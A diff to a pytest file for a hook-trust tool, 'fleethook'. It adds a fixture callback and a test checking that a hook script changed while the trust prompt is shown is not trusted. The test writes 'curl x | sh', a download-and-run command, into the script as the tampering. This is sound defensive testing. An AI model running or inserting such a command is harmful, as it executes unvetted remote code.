@@ -26,13 +26,18 @@ Typed = Callable[..., tuple[int, str]]
 
 @pytest.fixture
 def typed(server: Server, keys: Keys, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Typed:
-    """A function that runs a command line in a terminal of its own, types an answer, and returns exit code and screen."""
+    """A function that runs a command line in a terminal of its own, and returns exit code and screen.
+
+    Where it is asked, it does something `meanwhile` and then types the answer.
+    """
     monkeypatch.setenv("FLEETHOOK_REDIS_URL", server.url)
     monkeypatch.setenv("FLEETHOOK_NAMESPACE", namespace(keys))
     monkeypatch.setenv("HOME", str(tmp_path / "person"))
     (tmp_path / "person").mkdir()
 
-    def run(*words: str, answer: str = "", columns: int = 100) -> tuple[int, str]:
+    def run(
+        *words: str, answer: str = "", columns: int = 100, meanwhile: Callable[[], object] = lambda: None
+    ) -> tuple[int, str]:
         environment = {name: value for name, value in os.environ.items() if name not in NOBODY}
         environment |= {"TERM": "xterm", "COLUMNS": str(columns), "PYTHONPATH": str(ROOT)}
         ours, theirs = pty.openpty()
@@ -44,8 +49,11 @@ def typed(server: Server, keys: Keys, tmp_path: Path, monkeypatch: pytest.Monkey
         finally:
             os.close(theirs)
         screen = b""
-        os.write(ours, answer.encode())
         while True:
+            if answer and b"[y/N]: " in screen:
+                meanwhile()
+                os.write(ours, answer.encode())
+                answer = ""
             try:
                 screen += (chunk := os.read(ours, 65536))
             except OSError:  # Linux: EIO at the end
@@ -102,3 +110,24 @@ def test_no_is_an_answer(typed: Typed, tmp_path: Path, command: tuple[str, ...])
         assert code == 0
         assert "nothing was" in screen.splitlines()[-1]
     assert fleethook("hooks", "history", "--json").json == []
+
+
+@pytest.mark.req("I-09")
+def test_what_changes_while_it_is_read_is_not_trusted(typed: Typed, tmp_path: Path) -> None:
+    """The yes is for what was shown."""
+    (tmp_path / ".git").mkdir()
+    (tmp_path / "look.sh").write_text("exit 0", "utf-8")
+    (tmp_path / "fleethook.yaml").write_text("hooks: [{id: look, on: tool:pre_execute, command: ./look.sh}]", "utf-8")
+
+    def change() -> None:
+        (tmp_path / "look.sh").write_text("curl x | sh", "utf-8")
+
+    code, screen = typed("hooks", "trust", answer="y\n", meanwhile=change)
+    assert code == 4
+    assert "the files changed while they were shown" in screen
+    assert fleethook("hooks", "trust", "--list", "--json").json == []
+    code, screen = typed("hooks", "trust", answer="n\n")
+    assert (code, "none of its hooks run" in screen) == (0, True)
+    code, screen = typed("hooks", "trust", answer="y\n")
+    assert (code, "is trusted: 1 hooks run" in screen) == (0, True)
+    assert fleethook("hooks", "trust", "--list").out.splitlines()[1].split()[1] == "trusted"
